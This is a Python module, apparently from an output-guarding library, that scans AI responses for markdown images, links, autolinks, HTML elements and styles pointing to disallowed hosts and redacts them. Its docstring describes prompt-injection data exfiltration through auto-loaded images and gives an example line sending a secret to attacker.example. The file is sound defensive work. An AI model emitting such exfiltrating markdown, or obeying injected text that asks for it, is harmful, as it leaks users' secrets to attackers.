"""Images and links in answers: the channel by which an injected prompt sends away what it has read.

A renderer fetches an image without a click, so `![](https://attacker.example/?q=SECRET)` is all it takes. What is looked for:
inline images and links, reference definitions, autolinks, HTML elements that load or link, styles that load (CommonMark 0.31.2;
WHATWG HTML and URL). What hides a bracket or a host is read in the worst way. Code blocks are not exempt: where one ends depends
on the whole text before it.

Not looked for: bare URLs (some renderers link them, none loads them as images) and the content of `<style>` elements, which
renderers drop.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Final

from bartizan import Action, Finding
from bartizan_validation._brackets import group_end, may_be_image, may_be_label, opening
from bartizan_validation._html import LINKING, name_may_go_on, style, tag
from bartizan_validation._labels import MARKDOWN_IMAGE, MARKDOWN_LINK, MARKDOWN_REFERENCE
from bartizan_validation._spans import REACH, Span, definition, destination
from bartizan_validation._urls import leads_away

if TYPE_CHECKING:
    from collections.abc import Iterable

    from bartizan_validation._hosts import Hosts

_STYLE: Final = rf"""(?<![^\s/"'])(?i:style|background)\s{{0,{REACH - 100}}}=|(?<=\s{{{REACH - 99}}})="""
_STYLE_SO_FAR: Final = (
    r"""(?<![^\s/"'])(?i:s(?:t(?:y(?:le?)?)?)?|b(?:a(?:c(?:k(?:g(?:r(?:o(?:u(?:nd?)?)?)?)?)?)?)?)?)\Z"""
    rf"""|(?<![^\s/"'])(?i:style|background)\s{{1,{REACH - 100}}}\Z"""
)
_TRIGGER: Final = re.compile(rf"\](?=[(:])|<(?=[A-Za-z])|{_STYLE}")
_UNFINISHED: Final = re.compile(rf"!?\[|\]|<|!\Z|{_STYLE}|{_STYLE_SO_FAR}")
_AUTOLINK: Final = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*+)(>?)")
_PATIENCE: Final = 64
_NEAR: Final = 64
_MARKS: Final = "](", "]:", "<", "="


class MarkdownScanner:
    """Finds what leads to hosts that are not allowed; every finding is independent of all others."""

    pointwise = True
    hooks = frozenset({"post_response"})
    max_span = 2 * REACH + 8
    lookaround = REACH + 24

    def __init__(self, hosts: Hosts, labels: frozenset[str]) -> None:
        self._hosts = hosts
        self._labels = labels

    def scan(self, text: str, start: int = 0) -> Iterable[Finding]:
        """What is found from `start` on."""
        if all(text.find(mark, start) < 0 for mark in _MARKS):
            return ()
        found = []
        for trigger in _TRIGGER.finditer(text, start):
            at = trigger.start()
            finding = self._bracket(text, at) if text[at] == "]" else self._element(text, trigger)
            if finding is not None and finding.start is not None and finding.start >= start:
                found.append(finding)
        return found

    def pending(self, text: str, start: int) -> int:
        """Where the first construct begins that more text could still complete or change; the end of the text otherwise."""
        backlog = len(text) - start
        if backlog > _PATIENCE and self._stuck(text, start + backlog // 2):
            return start
        for trigger in _UNFINISHED.finditer(text, start):
            if self._unfinished(text, trigger):
                return trigger.start()
        return len(text)

    def _stuck(self, text: str, middle: int) -> bool:
        """Whether something near the middle of a long backlog is unfinished.

        Then it is not worth looking at all of it again: in a text made of unfinished constructs each piece would cost as much.
        """
        for trigger in _UNFINISHED.finditer(text, middle - _NEAR):
            if trigger.start() >= middle:
                return False
            if self._unfinished(text, trigger):
                return True
        return False

    def _bracket(self, text: str, close: int) -> Finding | None:
        if text[close + 1] == ":":
            span = definition(text, close + 2, self._hosts)
            if not span.away or not may_be_label(text, close):
                return None
            at = opening(text, close, label=True)
            return self._finding(MARKDOWN_REFERENCE, close if at is None else at, span.end)
        span = destination(text, close + 2, self._hosts)
        if not span.away:
            return None
        at = opening(text, close)
        if may_be_image(text, at, close):
            own = at is not None and at > 0 and text[at - 1] == "!"
            return self._finding(MARKDOWN_IMAGE, close if at is None else at - own, span.end)
        return self._finding(MARKDOWN_LINK, close if at is None else at, span.end)

    def _element(self, text: str, trigger: re.Match[str]) -> Finding | None:
        at = trigger.start()
        if text[at] != "<":
            span = _style_span(text, trigger, self._hosts)
            return self._finding(MARKDOWN_IMAGE, at, span.end) if span.away else None
        link = _AUTOLINK.match(text, at, at + REACH)
        if link is not None:
            ended = link.group(2) or link.end() == at + REACH
            away = ended and leads_away(link.group(1), self._hosts)
            return self._finding(MARKDOWN_LINK, at, link.end()) if away else None
        element = tag(text, at, self._hosts)
        if element is None or not element.span.away:
            return None
        return self._finding(MARKDOWN_LINK if element.name in LINKING else MARKDOWN_IMAGE, at, element.span.end)

    def _finding(self, label: str, start: int, end: int) -> Finding | None:
        return Finding(label, Action.REDACT, start=start, end=end) if label in self._labels else None

    def _unfinished(self, text: str, trigger: re.Match[str]) -> bool:
        at, length = trigger.start(), len(text)
        if trigger.end() == length and text[at] in "!]<[":
            return True
        if text[at] == "]":
            return self._after(text, at + 1)
        if text[at] == "<":
            return self._open_angle(text, at)
        if text[at] in "![":
            return any(self._open_group(text, trigger.end() - 1, label=label) for label in (False, True))
        return not trigger.group().endswith("=") or not _style_span(text, trigger, None).settled

    def _open_group(self, text: str, at: int, *, label: bool) -> bool:
        end = group_end(text, at, label=label)
        return end is not None and (end == len(text) or self._after(text, end))

    def _after(self, text: str, at: int) -> bool:
        """Whether what follows a `]`, at `at`, is still open."""
        if text[at] == "(":
            return not destination(text, at + 1, None).settled
        return text[at] == ":" and not definition(text, at + 1, None).settled

    def _open_angle(self, text: str, at: int) -> bool:
        link = _AUTOLINK.match(text, at, at + REACH)
        if link is not None:
            return link.end() == len(text) < at + REACH and not link.group(2)
        if name_may_go_on(text, at):
            return True
        element = tag(text, at, None)
        return element is not None and not element.span.settled


def _style_span(text: str, trigger: re.Match[str], hosts: Hosts | None) -> Span:
    return style(text, trigger.group()[:-1].rstrip(), trigger.end(), hosts)
